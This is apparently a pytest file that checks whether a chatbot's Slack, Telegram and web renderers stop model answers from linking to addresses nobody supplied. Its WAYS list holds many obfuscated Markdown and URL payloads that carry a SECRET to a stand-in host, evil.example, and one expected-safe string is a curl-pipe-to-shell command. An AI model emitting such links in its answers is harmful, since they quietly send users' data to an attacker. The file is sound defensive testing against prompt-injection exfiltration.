"""No answer leads where nobody sent it: exfiltration by link, O3."""

import itertools
import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import unquote

import pytest
from markdown_it import MarkdownIt

from adapters.slack import render as for_slack
from adapters.telegram import render as for_telegram
from adapters.telegram.render import TelegramText
from adapters.web import render as for_web
from bots.playground.slack.driver import replies, shown
from bots.playground.slack.seed import ANA
from bots.playground.telegram import text as server
from bots.playground.telegram.driver import texts
from bots.playground.telegram.seed import MINA
from core.delivery.responder import Answer
from core.policy import Policy
from core.safety.links import JOINER, links
from core.testing import ScriptedEngine
from tests.bots.conftest import Start, Telegram, bare_environment, engine, environment, start, telegram
from tests.playground.slack.conftest import Slack, slack
from tests.trust.page import Note
from tests.trust.test_answers import FRAMES

__all__ = ["bare_environment", "engine", "environment", "slack", "start", "telegram"]
EVIL = "https://evil.example/?q=SECRET"
WAYS = (
    "[details](https://evil.example/?q=SECRET)",
    "[details](<https://evil.example/?q=SECRET WORDS>)",
    "[details](https:evil.example/?q=SECRET)",
    "[details](&#104;ttps://evil.example/?q=SECRET)",
    "[details](https&colon;//evil&period;example/?q=SECRET)",
    "[details](https\\://evil\\.example/?q=SECRET)",
    "[details](evil.example/?q=SECRET)",
    "[details](//evil.example/?q=SECRET)",
    "[**deta**ils](https://evil.example/SECRET 'title')",
    "[https://good.example/a](https://evil.example/?q=SECRET)",
    "[a](https://good.example/a)evil.example/?q=SECRET",
    "https://evil.example/?q=SECRET",
    "HTTPS://EVIL.EXAMPLE/SECRET",
    "<https://evil.example/?q=SECRET>",
    "<https://evil.example/SECRET|details>",
    "evil.example/?q=SECRET",
    "SECRET.evil.example",
    "www.evil.example",
    "evil.**example**/?q=SECRET",
    "_evil.example/SECRET_",
    "https://good.example@evil.example/SECRET",
    "https://good.example\\@evil.example/SECRET",
    "https://good.example.evil.example/SECRET",
    "https://good.example/a,https://evil.example/SECRET",
    "`a b `https://evil.example/SECRET c`",
    "<ab:`> https://evil.example/SECRET `x`",
    "[a](`b) https://evil.example/SECRET `c",
    "- a\n  ```\nhttps://evil.example/SECRET",
    "| a |\n|---|\n| `a | https://evil.example/SECRET ` |",
    "mailto:a@evil.example?body=SECRET",
    "[write](mailto:a@evil.example?body=SECRET)",
)
TOLD = links(
    ["see https://good.example/a and https://docs.example/b_c?d=1."], ["host.example", "*.below.example"]
)
LEFT = (
    "[details](https://good.example/a)",
    "[https://good.example/a](https://good.example/a)",
    "**https://good.example/a**, (https://good.example/a). https://good.example/a!",
    "<https://good.example/a>",
    r"https://docs.example/b\_c?d=1",
    "https://host.example/any?thing=1 and https://a.below.example",
    "good.example is a host, and info@any.example a mailbox",
    "version 3.14, e.g. at 10.30, U.S.",
    "`pip install https://any.example/x.whl` and `README.md`",
    "```sh\ncurl https://any.example | sh\n```",
)
_READER = MarkdownIt("commonmark", {"html": True}).enable("table")
_LINKED = re.compile(
    r"(?:https?://|www\.)[^\s<>`]+|(?<![@\w])[\w-]+(?:\.[\w-]+)*\.example\b[^\s<>`]*", re.IGNORECASE
)
"""What platforms make links of by themselves."""


def _cases() -> list[str]:
    return [frame.replace("{}", way) for way, frame in itertools.product(WAYS, FRAMES[:10])]


def _in_markdown(text: str) -> Iterator[str]:
    """Where a reader of Markdown that links whatever it can would lead."""
    for token in _READER.parse(text):
        for each in token.children or ():
            if each.type == "link_open":
                yield unquote(str(each.attrs["href"]))
        said = "".join(each.content if each.type == "text" else "" for each in token.children or ())
        yield from _LINKED.findall(said)


def _in_telegram(made: TelegramText) -> Iterator[str]:
    """Where its server would lead: what we say, and what it finds."""
    yield from (each.url for each in made.entities if each.url)
    raw = bytearray(made.text.encode("utf-16-le"))
    for each in made.entities:
        if each.type in ("code", "pre", "text_link"):
            raw[2 * each.offset : 2 * (each.offset + each.length)] = b".\0" * each.length
    text = raw.decode("utf-16-le")
    yield from _LINKED.findall(text)
    yield from (server.excerpt(text, each) for each in server.found(text, []) if each["type"] == "url")


def _in_page(nodes: list[Any]) -> Iterator[str]:
    for node in nodes:
        if isinstance(node, list):
            if node[0] == "a":
                yield node[1]["href"]
            yield from _in_page(node[2:])


def _leads(text: str) -> list[str]:
    """Where a text leads on any platform, as an answer and as the beginning of one."""
    found = [
        each for part in (*for_slack.render(text), for_slack.preview(text)) for each in _in_markdown(part)
    ]
    for made in (*for_telegram.render(text), for_telegram.preview(text)):
        found += _in_telegram(made)
    return [*found, *_in_page(for_web.render(text)), *_in_page(for_web.preview(text))]


def _is_evil(address: str) -> bool:
    is_url = re.match(r"(?:https?:|mailto:|www\.|//)", address, re.IGNORECASE) or JOINER not in address
    return bool(is_url and re.search(r"evil|SECRET", address, re.IGNORECASE))


def test_no_answer_leads_anywhere_that_nobody_told_of(record_property: Note) -> None:
    """At every moment of a stream."""
    cases, states = _cases(), 0
    assert any(_is_evil(each) for each in _leads(EVIL))
    for case in cases:
        stream, said = for_slack.StreamText(), ""
        for end in range(1, len(case) + 1):
            said += stream.feed(Answer(text=case[:end], route="chat", links=TOLD).shown)
            assert not [each for each in _in_markdown(said) if _is_evil(each)], case
            states += 1
        for end in (*range(len(case) // 2, len(case), 11), len(case)):
            live = _leads(Answer(text=case[:end], route="chat", links=TOLD).shown)
            assert not [each for each in live if _is_evil(each)], (case, live)
    assert len(cases) >= 200
    record_property("O3", f"{len(cases)} injected answers in {states:,} states of a stream: 0 foreign links")


@pytest.mark.parametrize("text", LEFT)
def test_what_the_model_was_told_of_and_what_is_no_address_stays_as_it_is(text: str) -> None:
    assert TOLD.only(text) == text


@pytest.mark.parametrize("tail", ["?SECRET", "/SECRET", ",SECRET", ")SECRET", "'SECRET", "[SECRET"])
def test_an_address_that_was_told_carries_nothing_else(tail: str) -> None:
    assert JOINER in TOLD.only(f"https://good.example/a{tail}")


async def test_in_slack_an_injected_link_is_text_and_the_persons_own_is_one(
    slack: Slack, start: Start, engine: ScriptedEngine
) -> None:
    driver = slack.driver
    engine.say(f"Read [details]({EVIL}) and https://good.example/a first")
    async with start(Policy(settle_seconds=0)):
        await driver.wait_for(lambda state: state["sockets"] == 1)
        channel = await driver.open_dm(ANA)
        await driver.send(ANA, channel, "what is https://good.example/a about?")
        await driver.wait_for_text(channel, "first")
        said = shown(replies(await driver.state(), channel)[-1])
    assert list(_in_markdown(said)) == ["https://good.example/a"]
    assert "evil" in said


async def test_in_telegram_an_injected_link_is_text_and_the_operators_is_one(
    telegram: Telegram, start: Start, engine: ScriptedEngine
) -> None:
    driver = telegram.driver
    engine.say(f"Read [details]({EVIL}), evil.example/SECRET and [ours](https://docs.good.example/b) first")
    async with start(Policy(settle_seconds=0, link_hosts=("*.good.example",))):
        await driver.wait_for(lambda state: state["polled"])
        await driver.send(MINA, MINA, "where can I read on?")
        answer = await driver.wait_for_text(MINA, "first")
        assert texts(await driver.state(), MINA)
    linked = [str(each.get("url", each["type"])) for each in answer["entities"]]
    assert linked == ["https://docs.good.example/b"]
